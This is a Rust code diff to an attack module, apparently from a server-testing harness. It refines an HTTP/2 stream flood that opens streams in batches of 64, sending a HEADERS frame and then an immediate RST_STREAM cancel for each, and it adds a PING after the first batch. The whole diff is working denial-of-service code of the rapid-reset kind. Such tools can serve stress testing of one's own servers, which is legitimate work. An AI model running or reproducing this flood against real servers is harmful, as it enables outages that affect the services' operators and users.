@@ -7,7 +7,7 @@
 use tokio::io::{AsyncWrite, AsyncWriteExt as _};
 
 use super::attack_context::AttackContext;
-use super::frames::{CANCEL, END_HEADERS, HEADERS, RST_STREAM, call, drain, frame, open_with_a_call};
+use super::frames::{CANCEL, END_HEADERS, HEADERS, RST_STREAM, call, drain, frame, open_with_a_call, ping};
 use stickycas_client::Error;
 
 /// Streams that are opened and reset before anybody else has a turn.
@@ -15,20 +15,22 @@ const AT_A_TIME: usize = 64;
 
 pub(super) async fn attack(context: &AttackContext) -> Result<(), Error> {
     let (mut read, mut write) = open_with_a_call(context).await?;
-    // The server takes the resets as slowly as it likes, so the process goes on beside them.
-    context.tally.effect();
     let call = call(context);
-    tokio::join!(flood(context, &mut write, &call), drain(&mut read));
+    tokio::join!(flood(context, &mut write, &call), drain(context, &mut read));
     Ok(())
 }
 
 async fn flood(context: &AttackContext, write: &mut (impl AsyncWrite + Unpin), call: &[u8]) {
     let streams: Vec<u32> = (3..).step_by(2).take(context.count as usize).collect();
-    for streams in streams.chunks(AT_A_TIME) {
+    for (turn, streams) in streams.chunks(AT_A_TIME).enumerate() {
         let mut bytes = Vec::new();
         for stream in streams {
             bytes.extend(frame(HEADERS, END_HEADERS, *stream, call));
             bytes.extend(frame(RST_STREAM, 0, *stream, &CANCEL.to_be_bytes()));
+        }
+        // The server takes the others as slowly as it likes: once it has taken these, the process goes on beside them.
+        if turn == 0 {
+            bytes.extend(ping());
         }
         context.tally.attempts(streams.len() as u64);
         if write.write_all(&bytes).await.is_err() {
